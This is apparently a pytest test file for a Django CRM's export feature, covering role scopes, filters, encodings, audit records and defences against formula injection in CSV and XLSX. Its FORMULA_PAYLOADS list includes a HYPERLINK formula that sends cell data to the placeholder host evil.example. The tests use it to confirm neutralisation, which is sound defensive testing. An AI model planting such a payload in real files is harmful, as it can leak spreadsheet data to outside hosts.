"""Exports: scope per role, filters, formula neutralisation, encodings, audit, web/API/CLI."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
from decimal import Decimal
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.management import CommandError, call_command
from django.http import StreamingHttpResponse
from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient

from guanxi.core.permissions import ROLE_POLICY, Action, Role, Scope
from guanxi.customers import services as customer_services
from guanxi.customers.models import CustomFieldDefinition
from guanxi.dataio import exporting
from guanxi.dataio.formulas import (
    FORMULA_TRIGGERS,
    neutralise,
    restore,
    xlsx_escape,
    xlsx_unescape,
)
from guanxi.dataio.models import ExportRecord
from guanxi.sales import services as sales_services
from guanxi.testing import World

pytestmark = pytest.mark.django_db

KIND_OBJECT = {
    "customers": "customer",
    "contacts": "contact",
    "products": "product",
    "orders": "order",
    "interactions": "interaction",
}

FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\tx",
    "\rx",
]


# --- helpers ------------------------------------------------------------------------------


def read_csv(data: bytes) -> list[dict[str, str]]:
    """Rows of an exported CSV (which must start with a UTF-8 byte order mark)."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> list[dict[str, Any]]:
    """Rows of an exported workbook's first sheet as dicts (text unescaped as OOXML says)."""
    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    rows = [
        tuple(xlsx_unescape(v) if isinstance(v, str) else v for v in row)
        for row in sheet.iter_rows(values_only=True)
    ]
    header = [str(h) for h in rows[0]]
    # A read-only sheet drops a row's trailing empty cells (an unscored customer's insights).
    padded = [row + (None,) * (len(header) - len(row)) for row in rows[1:]]
    return [dict(zip(header, row, strict=True)) for row in padded]


def export_bytes(user: Any, kind: str, fmt: str = "csv", **params: Any) -> bytes:
    """Run the engine as ``user`` and return the file."""
    export = exporting.start_export(actor=user, kind=kind, format=fmt, params=params)
    if fmt == "csv":
        return b"".join(export.iter_csv())
    target = io.BytesIO()
    export.write_xlsx(target)
    return target.getvalue()


def content(response: Any) -> bytes:
    if isinstance(response, StreamingHttpResponse) or getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def web(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def api(user: Any) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def identity(kind: str, row: dict[str, Any]) -> str:
    """The column that tells the world's records apart in each kind of file."""
    key = {"customers": "external_id", "orders": "external_id", "products": "sku"}
    return str(row[key.get(kind, "name" if kind == "contacts" else "subject")])


def world_identity(kind: str, records: Any) -> str:
    return {
        "customers": lambda r: r.customer.external_id,
        "contacts": lambda r: r.contact.name,
        "orders": lambda r: r.order.external_id,
        "interactions": lambda r: r.interaction.subject,
    }[kind](records)


def expected_distances(role: str, kind: str) -> set[str]:
    scope = ROLE_POLICY[role].get(KIND_OBJECT[kind], {}).get(Action.EXPORT, Scope.NONE)
    return {
        Scope.NONE: set(),
        Scope.OWN: {"own"},
        Scope.TEAM: {"own", "team"},
        Scope.ALL: {"own", "team", "other"},
    }[scope]


# --- scope --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["customers", "contacts", "orders", "interactions"])
@pytest.mark.parametrize("role", Role.values)
def test_every_role_exports_exactly_its_export_scope(world: World, role: str, kind: str) -> None:
    # given
    user = world.users[role]
    distances = expected_distances(role, kind)
    # when / then
    if not distances:
        with pytest.raises(PermissionDenied):
            exporting.start_export(actor=user, kind=kind, format="csv")
        assert web(user).get(f"/data/export/{kind}/?format=csv").status_code == 403
        assert api(user).get(f"/api/exports/{kind}/?format=csv").status_code == 403
        return
    exported = {identity(kind, row) for row in read_csv(export_bytes(user, kind))}
    records = world.records_for(role)
    for distance in ("own", "team", "other"):
        wanted = world_identity(kind, records[distance])
        assert (wanted in exported) is (distance in distances), (distance, wanted)
    if ROLE_POLICY[role][KIND_OBJECT[kind]][Action.EXPORT] is not Scope.ALL:
        # Nothing beyond the user's own (and team's) records: no other role's "own" records.
        allowed = {world_identity(kind, records[d]) for d in distances}
        if distances == {"own", "team"}:
            allowed |= {
                world_identity(kind, world.records[f"own:{r}"]) for r in Role.values
            }  # every role user of the world is in team North
        assert exported <= allowed


def test_a_sales_rep_exports_only_own_customers_in_web_api_and_cli(world: World, tmp_path) -> None:
    # given
    rep = world.users[Role.SALES_REP]
    own = world.records_for(Role.SALES_REP)["own"].customer.external_id
    # when
    from_web = read_csv(content(web(rep).get("/data/export/customers/?format=csv")))
    from_api = read_csv(content(api(rep).get("/api/exports/customers/?format=csv")))
    target = tmp_path / "customers.csv"
    call_command("export", "customers", "--user", rep.username, "--output", str(target))
    from_cli = read_csv(target.read_bytes())
    # then
    for rows in (from_web, from_api, from_cli):
        assert [r["external_id"] for r in rows] == [own]
        assert rows[0]["owner"] == rep.username


def test_products_are_exported_whole_by_roles_with_export_scope(world: World) -> None:
    # given: a sales rep may view the catalogue but not export it
    rep = world.users[Role.SALES_REP]
    analyst = world.users[Role.ANALYST]
    # when
    rows = read_csv(export_bytes(analyst, "products"))
    # then
    assert [r["sku"] for r in rows] == ["SKU-1"]
    assert api(rep).get("/api/exports/products/").status_code == 403


def test_the_list_page_offers_the_export_menu_only_with_export_scope(world: World) -> None:
    # given
    agent = world.users[Role.SERVICE_AGENT]  # views customers, may not export them
    rep = world.users[Role.SALES_REP]
    # when
    shown = web(rep).get("/customers/?province=Guangdong")
    hidden = web(agent).get("/customers/")
    # then
    assert b"/data/export/customers/?province=Guangdong&amp;format=csv" in shown.content
    assert b"format=xlsx" in shown.content
    assert b"data-export-format" not in hidden.content
    assert hidden.status_code == 200


def test_an_anonymous_visitor_is_sent_to_log_in(world: World) -> None:
    response = Client().get("/data/export/customers/?format=csv")
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]
    assert APIClient().get("/api/exports/customers/").status_code in (401, 403)


# --- filters ------------------------------------------------------------------------------


def _customer(actor: Any, external_id: str, **data: Any) -> Any:
    tags = data.pop("tags", None)
    return customer_services.customer_create(
        actor=actor, data={"external_id": external_id, "name": external_id, **data}, tags=tags
    )


def test_filters_of_the_list_apply_to_the_export(world: World) -> None:
    # given
    admin = world.users[Role.ADMINISTRATOR]
    _customer(admin, "GD-1", province="Guangdong", tags=["VIP", "Key"])
    _customer(admin, "GD-2", province="Guangdong")
    _customer(admin, "BJ-1", province="Beijing", tags=["VIP"])
    # when
    by_province = read_csv(export_bytes(admin, "customers", province="guangdong"))
    by_tag = read_csv(export_bytes(admin, "customers", tag=["VIP", "Key"]))
    by_search = read_csv(export_bytes(admin, "customers", q="GD-2"))
    web_rows = read_csv(
        content(web(admin).get("/data/export/customers/?format=csv&province=Beijing&sort=-name"))
    )
    api_rows = read_xlsx(
        content(api(admin).get("/api/exports/customers/?format=xlsx&tag=VIP&tag=Key"))
    )
    # then
    assert [r["external_id"] for r in by_province] == ["GD-1", "GD-2"]
    # A customer with two of the chosen tags appears once.
    assert [r["external_id"] for r in by_tag] == ["GD-1", "BJ-1"]
    assert by_tag[0]["tags"] == "Key;VIP"
    assert [r["external_id"] for r in by_search] == ["GD-2"]
    assert [r["external_id"] for r in web_rows] == ["BJ-1"]
    assert [r["external_id"] for r in api_rows] == ["GD-1", "BJ-1"]


def test_order_filters_apply_and_orders_export_one_row_per_line(world: World) -> None:
    # given
    admin = world.users[Role.ADMINISTRATOR]
    customer = _customer(admin, "ORD-C")
    sales_services.order_create(
        actor=admin,
        data={"external_id": "WEB-1", "customer": customer, "channel": "online"},
        lines=[
            {"product": world.product, "quantity": "2", "unit_price": "10.50"},
            {"description": "Installation", "quantity": "1", "unit_price": "99.99"},
        ],
    )
    # when
    rows = read_csv(export_bytes(admin, "orders", channel="online"))
    # then
    assert [(r["external_id"], r["line_number"]) for r in rows] == [("WEB-1", "1"), ("WEB-1", "2")]
    assert {r["total_amount"] for r in rows} == {"120.99"}
    assert [r["product_sku"] for r in rows] == ["SKU-1", ""]
    assert [r["amount"] for r in rows] == ["21.00", "99.99"]
    assert rows[0]["customer_external_id"] == "ORD-C"


def test_a_bad_filter_is_refused_with_its_name(world: World) -> None:
    admin = world.users[Role.ADMINISTRATOR]
    with pytest.raises(ValidationError) as error:
        exporting.start_export(actor=admin, kind="orders", params={"ordered_after": "soon"})
    assert "ordered_after" in error.value.message_dict
    response = api(admin).get("/api/exports/orders/?ordered_after=soon")
    assert response.status_code == 400
    assert "ordered_after" in response.json()
    page = web(admin).get("/data/export/orders/?ordered_after=soon&format=csv")
    assert page.status_code == 302
    assert page["Location"].startswith("/sales/orders/?ordered_after=soon")


def test_a_filter_on_a_record_outside_the_scope_is_refused_not_answered(world: World) -> None:
    # given: the rep may not see the other team's customer
    rep = world.users[Role.SALES_REP]
    other = world.records["other"].customer
    # when
    response = api(rep).get(f"/api/exports/contacts/?customer={other.pk}")
    # then: refused like an id that does not exist
    assert response.status_code == 400
    assert "customer" in response.json()


def test_unknown_kinds_and_formats_are_refused(world: World) -> None:
    admin = world.users[Role.ADMINISTRATOR]
    with pytest.raises(ValidationError):
        exporting.start_export(actor=admin, kind="users")
    assert api(admin).get("/api/exports/customers/?format=pdf").status_code == 400
    assert web(admin).get("/data/export/users/").status_code == 404


# --- values: formulas, numbers, encodings -------------------------------------------------


def test_neutralise_and_restore_are_inverse_on_every_string() -> None:
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "a", "1", " "]
    for length in range(5):
        for letters in itertools.product(alphabet, repeat=length):
            text = "".join(letters)
            written = neutralise(text)
            assert restore(written) == text
            assert not written.startswith(FORMULA_TRIGGERS)
    assert neutralise("-120.00") == "'-120.00"  # as text; amounts are never text
    assert restore("'just a quote") == "'just a quote"


def test_xlsx_escaping_keeps_control_characters_and_literal_escapes() -> None:
    alphabet = ["\r", "\x00", "\x0b", "_", "x", "0", "D", "\n", "\t", "中"]
    for length in range(5):
        for letters in itertools.product(alphabet, repeat=length):
            text = "".join(letters)
            assert xlsx_unescape(xlsx_escape(text)) == text
    for text in ("_x000D_", "a_x005F_b", "\r\n_x0041_\x01"):
        assert xlsx_unescape(xlsx_escape(text)) == text


def test_formula_payloads_are_neutralised_and_negative_amounts_stay_numbers(world: World) -> None:
    # given: formula payloads in text fields, and a reversed order (negative amounts)
    admin = world.users[Role.ADMINISTRATOR]
    customers = [
        _customer(admin, f"F-{i}", province=payload, notes=payload)
        for i, payload in enumerate(FORMULA_PAYLOADS)
    ]
    customer_services.customer_update(actor=admin, customer=customers[0], data={}, tags=["=cmd"])
    order = sales_services.order_create(
        actor=admin,
        data={"external_id": "=1+1", "customer": customers[0]},
        lines=[{"description": "@SUM(A1)", "quantity": "1", "unit_price": "120.00"}],
    )
    sales_services.order_reverse(actor=admin, order=order, reason="mistake")
    # when
    csv_rows = read_csv(export_bytes(admin, "customers", q="F-"))
    xlsx_rows = read_xlsx(export_bytes(admin, "customers", "xlsx", q="F-"))
    csv_orders = read_csv(export_bytes(admin, "orders", customer=str(customers[0].pk)))
    xlsx_orders = read_xlsx(export_bytes(admin, "orders", "xlsx", customer=str(customers[0].pk)))
    # then: every payload is written with a leading quote, and read back exactly by restore()
    for rows in (csv_rows, xlsx_rows):
        by_id = {r["external_id"]: r for r in rows}
        for i, payload in enumerate(FORMULA_PAYLOADS):
            row = by_id[f"F-{i}"]
            for column in ("province", "notes"):
                assert row[column] == "'" + payload
                assert restore(row[column]) == payload
        assert by_id["F-0"]["tags"] == "'=cmd"
    for rows in (csv_orders, xlsx_orders):
        assert {r["external_id"] for r in rows} == {"'=1+1", "'=1+1-R"}
        assert {r["description"] for r in rows} == {"'@SUM(A1)"}
        reversal = next(r for r in rows if r["kind"] == "reversal")
        assert reversal["reverses_external_id"] == "'=1+1"
    # The reversal's amounts: plain negative numbers in CSV, numeric cells in XLSX.
    reversal_csv = next(r for r in csv_orders if r["kind"] == "reversal")
    assert (reversal_csv["total_amount"], reversal_csv["amount"]) == ("-120.00", "-120.00")
    assert reversal_csv["quantity"] == "-1.000"
    reversal_xlsx = next(r for r in xlsx_orders if r["kind"] == "reversal")
    for column in ("total_amount", "amount", "quantity"):
        assert isinstance(reversal_xlsx[column], int | float)
    assert Decimal(str(reversal_xlsx["amount"])) == Decimal("-120.00")
    assert Decimal(str(reversal_xlsx["quantity"])) == Decimal("-1")


def test_no_xlsx_cell_is_a_formula(world: World) -> None:
    # given
    admin = world.users[Role.ADMINISTRATOR]
    for i, payload in enumerate(FORMULA_PAYLOADS):
        _customer(admin, f"X-{i}", name=payload, address=payload)
    # when
    data = export_bytes(admin, "customers", "xlsx", q="")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    # then
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


def test_chinese_text_round_trips_in_csv_with_bom_and_in_xlsx(world: World) -> None:
    # given
    admin = world.users[Role.ADMINISTRATOR]
    _customer(
        admin, "CN-1", name="广州市白云区贸易有限公司", province="广东", city="广州",
        notes="重点客户 年采购额约 120 万元。\n第二行",
    )  # fmt: skip
    # when
    raw = export_bytes(admin, "customers", external_id="CN-1")
    csv_row = read_csv(raw)[0]
    xlsx_row = read_xlsx(export_bytes(admin, "customers", "xlsx", external_id="CN-1"))[0]
    # then
    assert raw[:3] == b"\xef\xbb\xbf"
    for row in (csv_row, xlsx_row):
        assert row["name"] == "广州市白云区贸易有限公司"
        assert (row["province"], row["city"]) == ("广东", "广州")
        assert row["notes"] == "重点客户 年采购额约 120 万元。\n第二行"


def test_values_are_exact_and_machine_readable(world: World) -> None:
    # given: custom fields of each type, a decimal credit limit, tags, an owner
    admin = world.users[Role.ADMINISTRATOR]
    CustomFieldDefinition.objects.create(name="loyalty_card", label="Card", field_type="text")
    CustomFieldDefinition.objects.create(name="visits", label="Visits", field_type="integer")
    CustomFieldDefinition.objects.create(name="score", label="Score", field_type="decimal")
    CustomFieldDefinition.objects.create(name="vip", label="VIP", field_type="boolean")
    CustomFieldDefinition.objects.create(name="since", label="Since", field_type="date")
    _customer(
        admin,
        "V-1",
        credit_limit=Decimal("123456789012.34"),
        credit_overdue=True,
        buyer_motive="trading",
        custom_fields={
            "loyalty_card": "+86 card", "visits": 12, "score": "0.125", "vip": True,
            "since": "2020-02-29",
        },
        tags=["VIP", "重点"],
        owner=world.users[Role.SALES_REP],
    )  # fmt: skip
    # when
    row = read_csv(export_bytes(admin, "customers", external_id="V-1"))[0]
    cells = read_xlsx(export_bytes(admin, "customers", "xlsx", external_id="V-1"))[0]
    # then
    assert row["credit_limit"] == "123456789012.34"
    assert row["credit_overdue"] == "true"
    assert row["buyer_motive"] == "trading"  # the stored value, not the label
    assert row["tags"] == "VIP;重点"
    assert row["owner"] == "sales_rep"
    assert (row["cf_loyalty_card"], row["cf_visits"], row["cf_score"]) == (
        "'+86 card",
        "12",
        "0.125",
    )
    assert (row["cf_vip"], row["cf_since"]) == ("true", "2020-02-29")
    assert cells["credit_limit"] == pytest.approx(123456789012.34)
    assert Decimal(str(cells["credit_limit"])) == Decimal("123456789012.34")
    assert cells["credit_overdue"] is True
    assert cells["cf_visits"] == 12
    assert cells["cf_vip"] is True


def test_datetimes_carry_their_offset(world: World, settings) -> None:
    # given
    admin = world.users[Role.ADMINISTRATOR]
    order = world.records["other"].order
    # when
    row = read_csv(export_bytes(admin, "orders", external_id=order.external_id))[0]
    # then
    from datetime import datetime

    assert datetime.fromisoformat(row["ordered_at"]) == order.ordered_at
    assert row["ordered_at"].endswith("+08:00")  # Asia/Shanghai, the site's time zone


# --- streaming and audit ------------------------------------------------------------------


def test_csv_is_streamed_and_xlsx_is_sent_from_a_file(world: World) -> None:
    admin = world.users[Role.ADMINISTRATOR]
    streamed = web(admin).get("/data/export/orders/?format=csv")
    workbook = web(admin).get("/data/export/orders/?format=xlsx")
    assert isinstance(streamed, StreamingHttpResponse)
    assert streamed["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="orders-' in streamed["Content-Disposition"]
    assert streamed["Cache-Control"] == "no-store"
    assert workbook["Content-Type"].startswith("application/vnd.openxmlformats")
    assert len(read_xlsx(content(workbook))) == len(read_csv(content(streamed)))


def test_records_are_read_in_chunks(world: World, monkeypatch) -> None:
    # given: a chunk smaller than the number of customers
    admin = world.users[Role.ADMINISTRATOR]
    monkeypatch.setattr(exporting, "CHUNK_SIZE", 3)
    export = exporting.start_export(actor=admin, kind="customers")
    # when
    rows = read_csv(b"".join(export.iter_csv()))
    # then: every customer once, in key order, tags prefetched per chunk
    assert len(rows) == len(world.records)
    assert len({r["external_id"] for r in rows}) == len(rows)


def test_every_export_is_recorded_with_its_row_count(world: World, tmp_path) -> None:
    # given
    rep = world.users[Role.SALES_REP]
    admin = world.users[Role.ADMINISTRATOR]
    # when
    content(web(rep).get("/data/export/customers/?format=csv&kind=organization&page=2"))
    content(api(admin).get("/api/exports/orders/?format=xlsx"))
    call_command("export", "interactions", "--output", str(tmp_path / "i.csv"), verbosity=0)
    # then
    records = list(ExportRecord.objects.order_by("pk"))
    assert [(r.username, r.kind, r.format, r.source) for r in records] == [
        ("sales_rep", "customers", "csv", "web"),
        ("administrator", "orders", "xlsx", "api"),
        ("administrator", "interactions", "csv", "cli"),
    ]
    assert records[0].filters == {"kind": ["organization"]}
    assert records[0].row_count == 1
    assert records[1].row_count == len(world.records)  # one line per order
    assert all(r.finished_at is not None for r in records)
    # and the history page shows a user their own exports, an administrator all of them
    assert web(rep).get("/data/exports/").content.count(b"<tr>") == 1 + 1
    assert web(admin).get("/data/exports/").content.count(b"<tr>") == 1 + 3


def test_an_interrupted_download_leaves_an_unfinished_record(world: World) -> None:
    admin = world.users[Role.ADMINISTRATOR]
    export = exporting.start_export(actor=admin, kind="customers")
    chunks = export.iter_csv()
    next(chunks)  # the header only: the client went away
    record = ExportRecord.objects.get()
    assert record.finished_at is None
    assert record.row_count is None


# --- command line -------------------------------------------------------------------------


def test_the_command_exports_as_the_first_administrator_with_filters(
    world: World, tmp_path, capsys
) -> None:
    # given
    admin = world.users[Role.ADMINISTRATOR]
    _customer(admin, "GD-9", province="Guangdong", tags=["VIP"])
    target = tmp_path / "out.xlsx"
    out = io.StringIO()
    # when
    call_command(
        "export", "customers", "--output", str(target), "--filter", "province=Guangdong",
        "--filter", "tag=VIP", stdout=out,
    )  # fmt: skip
    # then
    rows = read_xlsx(target.read_bytes())  # the format follows the suffix
    assert [r["external_id"] for r in rows] == ["GD-9"]
    assert "Exported 1 customers rows as administrator" in out.getvalue()
    assert ExportRecord.objects.get().username == "administrator"


def test_the_command_refuses_a_role_without_export_and_bad_arguments(
    world: World, tmp_path
) -> None:
    agent = world.users[Role.SERVICE_AGENT]
    with pytest.raises(CommandError, match="may not export"):
        call_command("export", "customers", "--user", agent.username, "-o", str(tmp_path / "x"))
    with pytest.raises(CommandError, match="no active user"):
        call_command("export", "customers", "--user", "nobody", "-o", str(tmp_path / "x"))
    with pytest.raises(CommandError, match="key=value"):
        call_command("export", "customers", "--filter", "province", "-o", str(tmp_path / "x"))
    with pytest.raises(CommandError, match="ordered_after: "):
        call_command("export", "orders", "--filter", "ordered_after=x", "-o", str(tmp_path / "x"))
    assert not (tmp_path / "x").exists()


def test_the_command_needs_an_administrator_or_a_user(db, tmp_path) -> None:
    with pytest.raises(CommandError, match="--user"):
        call_command("export", "customers", "-o", str(tmp_path / "x.csv"))


def test_customer_export_carries_the_insight_fields_read_only(world: Any) -> None:
    """Each customer row ends with its insight columns; re-import ignores them (computed)."""
    from guanxi.insights.models import CustomerInsight

    customer = world.records["team"].customer
    CustomerInsight.objects.create(
        customer=customer,
        as_of=dt.date(2026, 11, 1),
        order_count=3,
        total_spend=Decimal("120.50"),
        rfm_segment="champions",
        abc_grade="A",
        p_alive=0.75,
        clv=Decimal("310.20"),
        ladder_stage="client",
    )
    rows = {
        row["external_id"]: row
        for row in read_csv(export_bytes(world.users[Role.ADMINISTRATOR], "customers"))
    }
    scored = rows[customer.external_id]
    assert scored["insight_as_of"] == "2026-11-01"
    assert scored["insight_order_count"] == "3"
    assert scored["insight_total_spend"] == "120.50"
    assert scored["insight_rfm_segment"] == "champions"
    assert scored["insight_abc_grade"] == "A"
    assert scored["insight_p_alive"] == "0.75"
    assert scored["insight_clv"] == "310.20"
    assert scored["insight_ladder_stage"] == "client"
    unscored = rows[world.records["other"].customer.external_id]
    assert unscored["insight_clv"] == "" and unscored["insight_rfm_segment"] == ""
